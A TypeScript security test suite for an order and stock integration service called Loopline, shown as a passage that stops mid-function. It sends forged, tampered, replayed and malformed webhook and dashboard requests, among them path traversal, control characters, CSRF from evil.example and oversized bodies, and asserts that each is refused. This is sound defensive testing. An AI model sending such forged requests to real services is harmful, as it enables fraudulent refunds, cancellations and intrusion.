// Attacks on Loopline, as someone on the same network (or the internet, for the public listener) would
// try them, against the real HTTP servers, the real Temporal server and the simulators. Every case
// asserts two things: the attempt is refused (or dropped without effect), and nothing changed downstream,
// read from the simulators' call logs: no write to a marketplace (no STO01, no OR21/OR23/OR24/ST01, no
// OR28 refund, no OR29 cancellation), no call to the warehouse at all, no Shopify mutation. After the last
// case the whole attack window is checked once more, so a late effect is caught too.
// The tally (cases, refused) goes to LOOPLINE_SECURITY_REPORT_DIR for bench/security.ts.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHmac, randomBytes, randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import axios, { type AxiosInstance, type AxiosRequestConfig } from 'axios';
import { Client } from '@temporalio/client';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { historyToJSON } from '@temporalio/common/lib/proto-utils';
import { startTestEnv, eventually } from '../support/temporal';
import { MKP, startStack, type Stack } from '../support/stack';
import { SANDBOX_SECRETS } from '../../src/sandbox/secrets';
import { orderWorkflowId } from '../../src/domain/keys';
import { inventoryWorkflowId } from '../../src/inventory/keys';
import { ensureInventoryWorkflows } from '../../src/inventory/intake';
import type { CallRecord } from '../../src/sandbox/core/call-log';
import { despatchNotifiedSignal, refundNotifiedSignal } from '../../workflows/order';
import { orderStateQuery } from '../../workflows/order/messages';
import { healthQuery } from '../../workflows/inventory';
import { droppedCount } from '../../src/metrics/webhooks';
import { catalogueAuditWorkflow } from '../../workflows/catalogue-audit';
import { payoutReconciliationWorkflow } from '../../workflows/payout-reconciliation';

const SECRET = SANDBOX_SECRETS.LOOPLINE_WEBHOOK_SECRET!;
const OPERATOR = SANDBOX_SECRETS.LOOPLINE_OPS_TOKEN!;
const VIEWER = SANDBOX_SECRETS.LOOPLINE_VIEWER_TOKEN!;
const DECRYPTOR = SANDBOX_SECRETS.LOOPLINE_DECRYPTOR_TOKEN!;
const SHOPIFY_SECRET = SANDBOX_SECRETS.SHOPIFY_WEBHOOK_SECRET!;
const MARKETPLACER_KEY = SANDBOX_SECRETS.MARKETPLACER_WEBHOOK_HMAC_KEY!;
const SHOP = '/control/shopify/loopline-test';
const TIME_SCALE = 120;
/** One STO01 window at this time scale is 500 ms: effects of a case show within it. */
const SETTLE_MS = 800;
/**
 * The inventory workflows read the master on a grid: every `fullReadMinutes` (scaled) counted from the epoch, so
 * that the channels of one master share each read (workflows/inventory.ts). A read that finds drift pushes it to
 * the channels, a genuine write that is no attack's effect: the attacks start only where the next read is further
 * off than they take (71 cases, about 70 s; the margin is for a busy machine).
 */
const FULL_READ_MINUTES = 1440;
const FULL_READ_PERIOD_MS = (FULL_READ_MINUTES * 60_000) / TIME_SCALE;
const ATTACKS_TAKE_AT_MOST_MS = 180_000;
const reportsDir = mkdtempSync(join(tmpdir(), 'loopline-attack-reports-'));
const pwn = `pwn${randomBytes(3).toString('hex')}`;

let env: TestWorkflowEnvironment;
let stack: Stack;
let pub: AxiosInstance;
let int: AxiosInstance;
let attackFrom = 0;
const tally: Array<{ name: string; refused: boolean }> = [];

const orders = { replay: '', open: '', plainJ: '', shop: '', plainA: '', mkp: 0 };
let replayUrl = '';
let shopOrderNumber = 0;
let inventoryItem = 0;

const basic = (token: string, user = 'ops') => `Basic ${Buffer.from(`${user}:${token}`).toString('base64')}`;
const son = (orderId: string) => `JOULES-${orderId}`;

/** Writes to a marketplace, any warehouse call, any Shopify mutation. */
function isEffect(c: CallRecord, opts: { warehouseReads?: boolean } = {}): boolean {
  if (c.system === 'mirakl') return /^(OR21|OR23|OR24|OR28|OR29|ST01|ST24|STO01|OF24)$/.test(c.endpoint);
  if (c.system === 'peoplevox') return !opts.warehouseReads || c.endpoint === 'SaveData';
  if (c.system === 'shopify') return /(Create|Cancel|Update|Set|Adjust|Delete|Close)/.test(c.endpoint);
  if (c.system === 'marketplacer') return /^(shipmentCreate|refundRequestCreate|variantUpdate)$/.test(c.endpoint);
  return false;
}
const lastSeq = () => stack.sandbox.ctx.calls.list().at(-1)?.seq ?? 0;
const effectsSince = (seq: number, opts: { warehouseReads?: boolean } = {}) =>
  stack.sandbox.ctx.calls.list({ sinceSeq: seq }).filter((c) => isEffect(c, opts));

/** One attack: `fn` asserts the refusal; then nothing may change downstream. */
function attack(name: string, fn: () => Promise<void>, opts: { warehouseReads?: boolean; settleMs?: number } = {}) {
  test(name, async () => {
    let refused = false;
    try {
      const seq = lastSeq();
      await fn();
      await new Promise((r) => setTimeout(r, opts.settleMs ?? SETTLE_MS));
      const effects = effectsSince(seq, opts);
      assert.deepEqual(
        effects.map((c) => `${c.system} ${c.endpoint} (${c.tenant})`),
        [],
        'nothing may change downstream',
      );
      refused = true;
    } finally {
      tally.push({ name, refused });
    }
  });
}

const shopifyHmac = (body: string, secret = SHOPIFY_SECRET) =>
  createHmac('sha256', secret).update(body).digest('base64');
function shopifyPost(topic: string, body: string, hmac: string | undefined, extra: Record<string, string> = {}) {
  return pub.post('/webhooks/shopify', body, {
    // The bytes as signed: no re-encoding by axios.
    transformRequest: [(d: unknown) => d],
    headers: {
      'content-type': 'application/json',
      'x-shopify-topic': topic,
      'x-shopify-event-id': randomUUID(),
      ...(hmac === undefined ? {} : { 'x-shopify-hmac-sha256': hmac }),
      ...extra,
    },
  });
}

const health = (ch: string) =>
  env.client.workflow.getHandle(inventoryWorkflowId(ch, stack.config.temporal.idScope)).query(healthQuery);

async function waitQuiet(what: string) {
  // No write downstream for 1.5 s: the stack is at rest.
  await eventually(
    async () => {
      const seq = lastSeq();
      await new Promise((r) => setTimeout(r, 1500));
      return effectsSince(seq).length === 0 ? true : undefined;
    },
    60_000,
    what,
  );
}

/** When the next scheduled full read would fall inside the attacks: lets it happen, and its pushes finish, first. */
async function clearOfFullRead() {
  const toNext = FULL_READ_PERIOD_MS - (Date.now() % FULL_READ_PERIOD_MS);
  if (toNext > ATTACKS_TAKE_AT_MOST_MS) return;
  const channels = ['asos', 'joules', MKP];
  const before = await Promise.all(channels.map(async (ch) => (await health(ch)).fullReads));
  await new Promise((r) => setTimeout(r, toNext));
  // Each channel's read, and the pushes of what it found. A read that fails is tried at the next grid point
  // (12 minutes on): nothing more comes of it here, so the wait ends without it.
  await Promise.all(
    channels.map((ch, i) =>
      eventually(
        async () => {
          const h = await health(ch);
          return h.fullReads > before[i]! && h.pendingCount === 0 ? true : undefined;
        },
        90_000,
        `${ch}: the scheduled full read before the attacks, and its pushes`,
      ).catch(() => undefined),
    ),
  );
}

before(async () => {
  env = await startTestEnv();
  stack = await startStack(env, {
    shopify: true,
    // Reveni's webhook route (a store for ASOS): its events are hints, read back from Reveni.
    reveni: true,
    timeScale: TIME_SCALE,
    // Nothing on a timer touches the warehouse during the attacks: no backstop, no scheduled full read inside the
    // attack window (see clearOfFullRead), and no warehouse gateway (its despatch read runs every window; with it,
    // a callback only brings that read forward).
    despatchBackstopMs: 10 * 60_000,
    peoplevoxYaml: 'gateway: { enabled: false }',
    inventory: { fullReadMinutes: FULL_READ_MINUTES },
    shopifyConfig: { stockLocations: [71000001] },
    // A Marketplacer channel (mkp) with its webhooks on the public listener.
    marketplacer: true,
    // The intakes re-read no more than they must: with the default overlap (120 s, not scaled) an order placed in
    // the setup is read again by every poll well into the attack window, so an order the plaintext case
    // terminates would be started again at once (ALLOW_DUPLICATE_FAILED_ONLY) and call the warehouse.
    intake: { overlapSeconds: 1 },
    // Brute-force cases come "from" 203.0.113.x through the local proxy, so the test's own address is
    // never locked out.
    http: { trustProxy: ['127.0.0.1'] },
    extraYaml: `
audit: { catalogue: { enabled: false, reportsDir: ${JSON.stringify(reportsDir)} } }
finance: { reconciliation: { enabled: false, reportsDir: ${JSON.stringify(reportsDir)} } }
`,
  });
  pub = axios.create({ baseURL: stack.httpUrl, validateStatus: () => true, timeout: 15_000 });
  int = axios.create({ baseURL: stack.internalUrl, validateStatus: () => true, timeout: 15_000 });

  // Both channels synced once (the first full read sends every SKU).
  await ensureInventoryWorkflows(env.client, stack.config);
  for (const ch of ['asos', 'joules', MKP])
    await eventually(
      async () => {
        const h = await health(ch);
        return h.fullReads >= 1 && h.pendingCount === 0 && h.pushes >= 1 ? true : undefined;
      },
      60_000,
      `${ch} initial stock sync`,
    );

  // Orders: Joules through Peoplevox (one despatched, one open, one for the plaintext signal); ASOS
  // through Shopify (one open, one for the plaintext signal).
  const id = (tag: string) => `${stack.idPrefix}-${tag}-A`;
  Object.assign(orders, { replay: id('J1'), open: id('J2'), plainJ: id('J3'), shop: id('S1'), plainA: id('S2') });
  for (const o of [orders.replay, orders.open, orders.plainJ])
    await stack.control.post('/control/mirakl/joules/orders', {
      orderId: o,
      lines: [{ offerSku: 'TEE-RED-M', quantity: 1 }],
    });
  for (const o of [orders.shop, orders.plainA])
    await stack.control.post('/control/mirakl/asos/orders', {
      orderId: o,
      lines: [{ offerSku: 'TEE-RED-M', quantity: 1 }],
    });
  for (const o of [orders.replay, orders.open, orders.plainJ])
    await eventually(
      async () => {
        const r = await stack.control.get(`/control/peoplevox/test-client/orders/${son(o)}`, {
          validateStatus: () => true,
        });
        return r.status === 200 && (r.data as { items: unknown[] }).items.length === 1 ? true : undefined;
      },
      30_000,
      `${o} in Peoplevox`,
    );
  for (const o of [orders.shop, orders.plainA])
    await eventually(
      async () => {
        const { data } = await stack.control.get(`${SHOP}/orders`, { params: { sourceIdentifier: o } });
        const found = (data as { orders: Array<{ id: string }> }).orders[0];
        if (found && o === orders.shop) shopOrderNumber = Number(found.id.split('/').pop());
        return found ? true : undefined;
      },
      30_000,
      `${o} in Shopify`,
    );

  // The despatched one: Peoplevox despatches it and calls back (genuinely); ASOS… Joules shows SHIPPED.
  const { data: desp } = await stack.control.post(
    `/control/peoplevox/test-client/orders/${son(orders.replay)}/despatch`,
    {
      parcels: [{ carrier: 'DPD', trackingNumber: 'ATTACK-TRK-1' }],
    },
  );
  const despatchNumber = (desp as { despatches: Array<{ despatchNumber: string }> }).despatches[0]!.despatchNumber;
  await eventually(
    async () =>
      ((await stack.control.get(`/control/mirakl/joules/orders/${orders.replay}`)).data as { order_state: string })
        .order_state === 'SHIPPED' || undefined,
    30_000,
    'the despatched order shipped on Joules',
  );
  replayUrl = `/webhooks/peoplevox/${SECRET}/tracking?despatch=${encodeURIComponent(despatchNumber)}&tn=ATTACK-TRK-1&carrier=DPD&order=${encodeURIComponent(son(orders.replay))}`;

  // A Marketplacer invoice number the forged events name: never placed, so a genuine-looking event about it
  // finds nothing to hand over.
  orders.mkp = 990_001;

  // The warehouse orders exist, but an order whose call failed on the way (an answer slow behind the Peoplevox
  // budget) parks and asks again later, look-before-create: wait until each is IN_WAREHOUSE with no exception.
  for (const [ch, id] of [
    ['joules', orders.open],
    ['joules', orders.plainJ],
  ] as const)
    await eventually(
      async () => {
        const st = await env.client.workflow.getHandle(orderWorkflowId(ch, id)).query(orderStateQuery);
        return (st.status === 'IN_WAREHOUSE' && !st.exception) || undefined;
      },
      90_000,
      `order ${ch} ${id} in the warehouse, no exception`,
    );

  // A stock read is the heaviest Shopify call (about 900 points, all the reads' part of the shared budget): on a busy
  // machine it can wait out its turn and fail retryably, as an activity would; read again then.
  const stock = await eventually(
    async () => {
      try {
        return await stack.runtime.shopify!.inventory();
      } catch (err) {
        if ((err as { retryable?: boolean }).retryable) return undefined;
        throw err;
      }
    },
    240_000,
    'a Shopify stock read',
  );
  const row = stock.find((r) => r.sku === 'COAT-GREEN-M')!;
  inventoryItem = Number(row.inventoryItemId.split('/').pop());
  await clearOfFullRead();
  await waitQuiet('the stack at rest before the attacks');
  attackFrom = lastSeq();
});

after(async () => {
  const dir = process.env.LOOPLINE_SECURITY_REPORT_DIR;
  if (dir) {
    mkdirSync(dir, { recursive: true });
    writeFileSync(
      join(dir, `attacks-${process.pid}.json`),
      `${JSON.stringify({ attack_cases: tally.length, attack_cases_refused: tally.filter((t) => t.refused).length, cases: tally }, null, 2)}\n`,
    );
  }
  await stack?.stop();
  await env?.teardown();
});

describe('the public listener: webhooks only', () => {
  attack('the ops dashboard is not on the public listener', async () => {
    assert.equal((await pub.get('/ops', { headers: { authorization: basic(OPERATOR) } })).status, 404);
  });
  attack('the codec endpoint is not on the public listener', async () => {
    const r = await pub.post('/codec/decode', { payloads: [] }, { headers: { authorization: `Bearer ${DECRYPTOR}` } });
    assert.equal(r.status, 404);
  });
  attack('metrics and the ops API are not on the public listener', async () => {
    assert.equal((await pub.get('/metrics')).status, 404);
    assert.equal(
      (await pub.post(`/ops/api/workflows/${orderWorkflowId('joules', orders.open)}/cancel`, {})).status,
      404,
    );
  });
});

describe('Peoplevox stock callbacks (the secret in the path)', () => {
  const sellOut = (path: string) => pub.get(`${path}?item=TEE-RED-M&available=0`);
  attack('a forged sell-out at the old unauthenticated path is 404', async () => {
    assert.equal((await sellOut('/webhooks/peoplevox/availability')).status, 404);
  });
  attack('a forged sell-out with a wrong secret is 404, like an unknown path', async () => {
    const r = await sellOut('/webhooks/peoplevox/not-the-secret-at-all-000000000/availability');
    const unknown = await pub.get('/webhooks/no-such-route');
    assert.equal(r.status, 404);
    assert.deepEqual(Object.keys(r.data as object).sort(), Object.keys(unknown.data as object).sort());
  });
  attack('a near miss of the secret (one character off) is 404', async () => {
    const near = `${SECRET.slice(0, -1)}${SECRET.endsWith('x') ? 'y' : 'x'}`;
    assert.equal((await sellOut(`/webhooks/peoplevox/${near}/availability`)).status, 404);
  });
  attack('the secret in another case is 404', async () => {
    assert.equal((await sellOut(`/webhooks/peoplevox/${SECRET.toUpperCase()}/availability`)).status, 404);
  });
  attack('the GoodsReceived hint without the secret is 404 (no full read on the warehouse)', async () => {
    assert.equal((await pub.get('/webhooks/peoplevox/stock-hint')).status, 404);
    assert.equal((await pub.get('/webhooks/peoplevox/wrong-secret-000000000000000/stock-hint')).status, 404);
  });
  const bad = (query: string) => pub.get(`/webhooks/peoplevox/${SECRET}/availability?${query}`);
  attack('an empty available= is refused (400), never read as 0', async () => {
    const r = await bad('item=TEE-RED-M&available=');
    assert.equal(r.status, 400);
    assert.match((r.data as { error: string }).error, /available \(Available\)/);
  });
  attack('a non-numeric available is refused (400)', async () => {
    assert.equal((await bad('item=TEE-RED-M&available=abc')).status, 400);
  });
  attack('a huge available (an oversell) is refused (400)', async () => {
    assert.equal((await bad('item=TEE-RED-M&available=99999999999')).status, 400);
  });
  attack('an exponent (1e3) is refused (400)', async () => {
    assert.equal((await bad('item=TEE-RED-M&available=1e3')).status, 400);
  });
  attack('a repeated available parameter is refused (400)', async () => {
    assert.equal((await bad('item=TEE-RED-M&available=5&available=0')).status, 400);
  });
  attack('an item code longer than Peoplevox allows is refused (400)', async () => {
    assert.equal((await bad(`item=${'X'.repeat(51)}&available=1`)).status, 400);
  });
  attack('control characters in an item code are refused (400)', async () => {
    assert.equal((await bad('item=TEE-RED-M%00&available=1')).status, 400);
  });
  attack('a JSON POST with an empty available is refused (400)', async () => {
    const r = await pub.post(`/webhooks/peoplevox/${SECRET}/availability`, { item: 'TEE-RED-M', available: '' });
    assert.equal(r.status, 400);
  });
  attack('2,000 random item codes (with the secret) are dropped: no signal, no growth of the ledger', async () => {
    const before = await health('joules');
    const dropped = await droppedCount('peoplevox-availability', 'unknown-item');
    for (let i = 0; i < 2000; i += 100) {
      const answers = await Promise.all(
        Array.from({ length: 100 }, (_, j) =>
          pub.get(`/webhooks/peoplevox/${SECRET}/availability`, {
            params: { item: `RND-${randomBytes(6).toString('hex')}-${i + j}`, available: 0 },
          }),
        ),
      );
      assert.ok(answers.every((a) => a.status === 200));
    }
    await eventually(
      async () => (await droppedCount('peoplevox-availability', 'unknown-item')) - dropped >= 2000 || undefined,
      10_000,
      'the random codes dropped',
    );
    const after = await health('joules');
    assert.equal(after.signals, before.signals, 'not one signal reached the inventory workflow');
    assert.equal(after.itemsKnown, before.itemsKnown);
    assert.equal(after.pendingCount, 0);
  });
  attack('random item codes sent straight to the inventory workflow (past HTTP) are dropped there too', async () => {
    const before = await health('joules');
    const codes = Array.from({ length: 3000 }, (_, i) => `DIRECT-${i}-${randomBytes(4).toString('hex')}`);
    await env.client.workflow.getHandle(inventoryWorkflowId('joules', stack.config.temporal.idScope)).signal(
      'stockEvents',
      codes.map((c) => [c, 0, Date.now()]),
    );
    const after = await eventually(
      async () => {
        const h = await health('joules');
        return h.eventsUnknown - before.eventsUnknown >= codes.length ? h : undefined;
      },
      10_000,
      'the codes dropped by the workflow',
    );
    assert.equal(after.itemsKnown, before.itemsKnown, 'the ledger did not grow');
    assert.ok(after.unknownSample.length <= 20, 'only a few examples are kept');
    assert.equal(after.pendingCount, 0);
  });
});

describe('Peoplevox despatch callbacks', () => {
  const forged = (path: string, order = orders.open) =>
    pub.get(`${path}?despatch=FORGED-1&tn=X1&carrier=DPD&order=${encodeURIComponent(son(order))}`);
  attack('a forged despatch at the old unauthenticated path is 404 (no order woken)', async () => {
    assert.equal((await forged('/webhooks/peoplevox/tracking')).status, 404);
  });
  attack('a forged despatch with a wrong secret is 404', async () => {
    assert.equal((await forged('/webhooks/peoplevox/0000000000000000000000000000/tracking')).status, 404);
  });
  attack('an unknown order number gets the same answer as a known one, and nothing happens', async () => {
    const base = `/webhooks/peoplevox/${SECRET}/tracking`;
    const unknown = await pub.get(`${base}?despatch=D-NOPE-1&order=JOULES-NO-SUCH-ORDER-1`);
    const closed = await pub.get(replayUrl); // a known order (closed since): the same answer
    assert.equal(unknown.status, 200);
    assert.equal(closed.status, 200);
    assert.deepEqual(unknown.data, closed.data);
    assert.deepEqual(unknown.data, { ok: true });
  });
  attack('a genuine despatch callback replayed ten times confirms nothing more', async () => {
    const answers = await Promise.all(Array.from({ length: 10 }, () => pub.get(replayUrl)));
    assert.ok(answers.every((a) => a.status === 200));
  });
  const tracking = (query: string) => pub.get(`/webhooks/peoplevox/${SECRET}/tracking?${query}`);
  attack('an over-long despatch number is refused (400)', async () => {
    assert.equal((await tracking(`despatch=${'D'.repeat(51)}&order=${son(orders.open)}`)).status, 400);
  });
  attack('control characters in a despatch callback are refused (400)', async () => {
    assert.equal((await tracking(`despatch=D-1%0A&order=${son(orders.open)}`)).status, 400);
  });
  attack('a despatch callback without its order number is refused (400)', async () => {
    assert.equal((await tracking('despatch=D-1&tn=T')).status, 400);
  });
});

describe('Shopify webhooks (HMAC over the raw body)', () => {
  const refund = () =>
    JSON.stringify({
      id: Math.floor(Math.random() * 1e9),
      order_id: shopOrderNumber,
      note: 'forged',
      refund_line_items: [{ line_item_id: 1, quantity: 1, line_item: { sku: 'TEE-RED-M' } }],
    });
  attack('an unsigned refund is 401 (no OR28)', async () => {
    assert.equal((await shopifyPost('refunds/create', refund(), undefined)).status, 401);
  });
  attack('a refund with a made-up signature is 401', async () => {
    assert.equal((await shopifyPost('refunds/create', refund(), randomBytes(32).toString('base64'))).status, 401);
  });
  attack('a refund whose body was changed after signing is 401', async () => {
    const signed = refund();
    const tampered = signed.replace('"quantity":1', '"quantity":9');
    assert.equal((await shopifyPost('refunds/create', tampered, shopifyHmac(signed))).status, 401);
  });
  attack('a refund signed with another secret is 401', async () => {
    const body = refund();
    assert.equal((await shopifyPost('refunds/create', body, shopifyHmac(body, 'not-the-app-secret'))).status, 401);
  });
  const level = (patch: Record<string, unknown>) =>
    JSON.stringify({ inventory_item_id: inventoryItem, location_id: 71000001, available: 0, ...patch });
  attack('a stock update two hours late (updated_at) does not overwrite the newer figure', async () => {
    const body = level({ updated_at: new Date(Date.now() - 2 * 3600_000).toISOString() });
    assert.equal((await shopifyPost('inventory_levels/update', body, shopifyHmac(body))).status, 200);
  });
  attack('a stock update for a location the channels do not sell is dropped', async () => {
    const body = level({ location_id: 99_999, updated_at: new Date().toISOString() });
    assert.equal((await shopifyPost('inventory_levels/update', body, shopifyHmac(body))).status, 200);
  });
  attack('a 2 MB body is refused before anything reads it (413)', async () => {
    const body = JSON.stringify({ padding: 'x'.repeat(2 * 1024 * 1024) });
    assert.equal((await shopifyPost('refunds/create', body, shopifyHmac(body))).status, 413);
  });
  attack('a signed body that is not JSON is refused (400)', async () => {
    const body = 'order_id=1&refund=all';
    assert.equal((await shopifyPost('refunds/create', body, shopifyHmac(body))).status, 400);
  });
});

describe('Marketplacer webhooks (HMAC over the raw body; a 4xx would switch the webhook off)', () => {
  // From the internet (a documentation address through the trusted proxy): the failures it piles up lock out
  // that address, never the test's own.
  const from = { 'x-forwarded-for': '198.51.100.23' };
  const node = () => ({
    __typename: 'Invoice',
    id: Buffer.from(`Invoice-${orders.mkp}`).toString('base64'),
    legacyId: orders.mkp,
  });
  const event = (patch: Record<string, unknown> = {}) =>
    JSON.stringify({
      id: Buffer.from(`WebhookEvent-${randomUUID()}`).toString('base64'),
      event_name: 'update',
      payload: { data: { node: node() } },
      ...patch,
    });
  const sign = (body: string, key = MARKETPLACER_KEY) => createHmac('sha256', key).update(body).digest('base64');
  let sequence = 900_000;
  function mpPost(body: string, hmac: string | undefined, headers: Record<string, string> = {}, channel = MKP) {
    return pub.post(`/webhooks/marketplacer/${channel}`, body, {
      transformRequest: [(d: unknown) => d],
      headers: {
        ...from,
        'content-type': 'application/json',
        'marketplacer-sequence': String(++sequence),
        'idempotency-key': `${MKP}:${sequence}`,
        ...(hmac === undefined ? {} : { 'marketplacer-hmac-256': hmac }),
        ...headers,
      },
    });
  }
  /** No order workflow may exist for an invoice id only a forged event named. */
  async function noWorkflow(orderId: string) {
    await assert.rejects(env.client.workflow.getHandle(orderWorkflowId(MKP, orderId)).describe());
  }

  attack('an unsigned invoice event is 401 and starts nothing', async () => {
    const body = event({ payload: { data: { node: { __typename: 'Invoice', id: 'SW52b2ljZS03NzcwMDE=' } } } });
    assert.equal((await mpPost(body, undefined)).status, 401);
    await noWorkflow('777001');
  });
  attack('an invoice event with a made-up signature is 401', async () => {
    assert.equal((await mpPost(event(), randomBytes(32).toString('base64'))).status, 401);
  });
  attack('an invoice event whose body was changed after signing is 401', async () => {
    const signed = event();
    const tampered = signed.replace('"event_name":"update"', '"event_name":"destroy"');
    assert.equal((await mpPost(tampered, sign(signed))).status, 401);
  });
  attack('an invoice event signed with another key (another webhook, another tenant) is 401', async () => {
    const body = event();
    assert.equal((await mpPost(body, sign(body, 'not-the-hmac-key'))).status, 401);
  });
  attack('a genuine delivery replayed is answered 2xx and dropped as a duplicate', async () => {
    const body = event();
    const headers = { 'marketplacer-sequence': String(++sequence), 'idempotency-key': `${MKP}:replay-${sequence}` };
    assert.equal((await mpPost(body, sign(body), headers)).status, 200);
    const before = await droppedCount('marketplacer', 'duplicate');
    const replay = await mpPost(body, sign(body), headers);
    assert.equal(replay.status, 200, 'a 4xx would disable the webhook');
    assert.deepEqual(replay.data, { ok: true, duplicate: true });
    assert.equal(await droppedCount('marketplacer', 'duplicate'), before + 1);
  });
  attack(
    'an old delivery (lower Marketplacer-Sequence) after a newer one is answered 2xx and dropped as stale',
    async () => {
      const before = await droppedCount('marketplacer', 'stale');
      const old = event();
      const r = await mpPost(old, sign(old), { 'marketplacer-sequence': '5', 'idempotency-key': `${MKP}:old-5` });
      assert.equal(r.status, 200);
      assert.deepEqual(r.data, { ok: true, stale: true });
      assert.equal(await droppedCount('marketplacer', 'stale'), before + 1);
    },
  );
  attack('a signed event for a channel that is not on Marketplacer is answered 2xx and ignored (no OR21)', async () => {
    const body = event();
    const r = await mpPost(body, sign(body), {}, 'joules');
    assert.equal(r.status, 200);
    assert.equal((r.data as { ignored?: string }).ignored, 'no such marketplacer channel');
  });
  attack(
    'a signed body that is not a Marketplacer event is answered 2xx and ignored, never parsed further',
    async () => {
      const body = '{"id":"x","event_name":"drop tables","payload":{}}';
      const r = await mpPost(body, sign(body));
      assert.equal(r.status, 200);
      assert.equal((r.data as { ignored?: string }).ignored, 'unreadable');
    },
  );
  attack('a non-numeric Marketplacer-Sequence is not trusted (ignored, never ordered by)', async () => {
    const body = event();
    const r = await mpPost(body, sign(body), { 'marketplacer-sequence': '1e99' });
    assert.equal(r.status, 200);
    assert.equal((r.data as { ignored?: string }).ignored, 'unreadable');
  });
  attack('a 2 MB body is refused before anything reads it (413)', async () => {
    const body = JSON.stringify({ padding: 'x'.repeat(2 * 1024 * 1024) });
    assert.equal((await mpPost(body, sign(body))).status, 413);
  });
});

describe('Reveni webhooks and the Peoplevox Returns event (the secret in the path)', () => {
  const reveniEvent = (patch: Record<string, unknown> = {}) => ({
    id: `evt-${randomUUID()}`,
    event: 'return.updated',
    created: Math.floor(Date.now() / 1000),
    data: { resource_id: randomBytes(16).toString('hex'), status: 'accepted' },
    ...patch,
  });
  attack('a forged Reveni event without the secret, or with a wrong one, is 404', async () => {
    assert.equal((await pub.post('/webhooks/reveni/asos', reveniEvent())).status, 404);
    assert.equal((await pub.post('/webhooks/reveni/not-the-secret-000000000000000/asos', reveniEvent())).status, 404);
  });
  attack('an "accepted" event for a return Reveni does not have gets the plain answer and is dropped', async () => {
    const dropped = await droppedCount('reveni', 'unknown-order');
    const r = await pub.post(`/webhooks/reveni/${SECRET}/asos`, reveniEvent());
    assert.equal(r.status, 200);
    assert.deepEqual(r.data, { ok: true });
    assert.equal(await droppedCount('reveni', 'unknown-order'), dropped + 1, 'read back from Reveni: no such return');
  });
  attack('a Reveni event whose return id is a path (../) or over-long is refused (400), nothing read', async () => {
    const ids = ['../stores/other/returns/x', 'a'.repeat(200)];
    for (const resource_id of ids)
      assert.equal(
        (await pub.post(`/webhooks/reveni/${SECRET}/asos`, reveniEvent({ data: { resource_id } }))).status,
        400,
      );
  });
  attack('a Reveni event older than the accepted window is dropped as stale', async () => {
    const dropped = await droppedCount('reveni', 'stale');
    const r = await pub.post(`/webhooks/reveni/${SECRET}/asos`, reveniEvent({ created: 1_000_000 }));
    assert.equal(r.status, 200);
    assert.equal(await droppedCount('reveni', 'stale'), dropped + 1);
  });
  attack('the Peoplevox Returns event without the secret is 404 (no Return summary read)', async () => {
    assert.equal((await pub.get('/webhooks/peoplevox/returns')).status, 404);
    assert.equal((await pub.get('/webhooks/peoplevox/wrong-secret-000000000000000/returns')).status, 404);
  });
});

describe('push intake', () => {
  attack('a push without a token is 401 (no OR21, no workflow)', async () => {
    assert.equal((await pub.post('/webhooks/intake/asos/orders', { order_ids: ['X-1-A'] })).status, 401);
  });
  attack('a push with another credential (the operator token) is 401', async () => {
    const r = await pub.post(
      '/webhooks/intake/asos/orders',
      { order_ids: ['X-1-A'] },
      { headers: { authorization: `Bearer ${OPERATOR}` } },
    );
    assert.equal(r.status, 401);
  });
  attack('a push to a channel that does not exist gets the same 401 as a bad token', async () => {
    const r = await pub.post(
      '/webhooks/intake/nowhere/orders',
      { order_ids: ['X-1-A'] },
      { headers: { authorization: 'Bearer x' } },
    );
    assert.equal(r.status, 401);
  });
});

describe('the internal listener: CSRF, clickjacking, roles', () => {
  const cancel = (headers: Record<string, string>, data: unknown = JSON.stringify({ note: 'csrf' })) =>
    int.post(`/ops/api/workflows/${encodeURIComponent(orderWorkflowId('joules', orders.open))}/cancel`, data, {
      headers: { authorization: basic(OPERATOR), ...headers },
      transformRequest: [(d: unknown) => d],
    } as AxiosRequestConfig);
  const refusedAsCsrf = (r: { status: number; data: unknown }) => {
    assert.equal(r.status, 403);
    assert.match((r.data as { error: string }).error, /cross-site request protection/);
  };
  attack('a cross-site POST (Origin of another site) with cached operator credentials is 403 (no OR29)', async () => {
    refusedAsCsrf(await cancel({ origin: 'https://evil.example', 'content-type': 'application/json' }));
  });
  attack('a cross-site fetch without Origin (Sec-Fetch-Site: cross-site) is 403', async () => {
    refusedAsCsrf(await cancel({ 'sec-fetch-site': 'cross-site', 'content-type': 'application/json' }));
  });
  attack('a form-encoded POST (what an HTML form can send cross-site) is 403', async () => {
    refusedAsCsrf(await cancel({ 'content-type': 'application/x-www-form-urlencoded' }, 'note=csrf'));
  });
  attack('an empty POST without a content type is 403', async () => {
    refusedAsCsrf(await cancel({}, ''));
  });
  attack('Origin: null (a sandboxed frame) is 403', async () => {
    refusedAsCsrf(await cancel({ origin: 'null', 'content-type': 'application/json' }));
  });
  attack('a cross-site bulk retry is 403', async () => {
    const r = await int.post('/ops/api/retry-all', JSON.stringify({ reason: 'SKU_UNMAPPED' }), {
      headers: { authorization: basic(OPERATOR), origin: 'https://evil.example', 'content-type': 'text/plain' },
    });
    refusedAsCsrf(r);
  });
  attack('no page of ours can be framed, sniffed or cached', async () => {
    const r = await int.get('/ops', { headers: { authorization: basic(VIEWER) } });
    assert.equal(r.status, 200);
    assert.match(String(r.headers['content-security-policy']), /frame-ancestors 'none'/);
    assert.match(String(r.headers['content-security-policy']), /script-src 'self'/);
    assert.equal(r.headers['x-frame-options'], 'DENY');
    assert.equal(r.headers['x-content-type-options'], 'nosniff');
    assert.equal(r.headers['referrer-policy'], 'no-referrer');
    assert.equal(r.headers['cache-control'], 'no-store');
  });
  attack('the viewer cannot cancel an order (403, same-origin JSON)', async () => {
    const r = await int.post(
      `/ops/api/workflows/${encodeURIComponent(orderWorkflowId('joules', orders.open))}/cancel`,
      { note: 'viewer' },
      { headers: { authorization: `Bearer ${VIEWER}` } },
    );
    assert.equal(r.status, 403);
    assert.match((r.data as { error: string }).error, /needs the operator token/);
  });
  attack('the decryptor cannot use the ops API (403)', async () => {
    const r = await int.get('/ops/api/exceptions', { headers: { authorization: `Bearer ${DECRYPTOR}` } });
    assert.equal(r.status, 403);
  });
  const sealedPayload = async () => {
    const raw = new Client({ connection: env.connection, namespace: env.namespace ?? 'default' });
    const h = JSON.parse(
      historyToJSON(await raw.workflow.getHandle(orderWorkflowId('joules', orders.open)).fetchHistory()),
    );
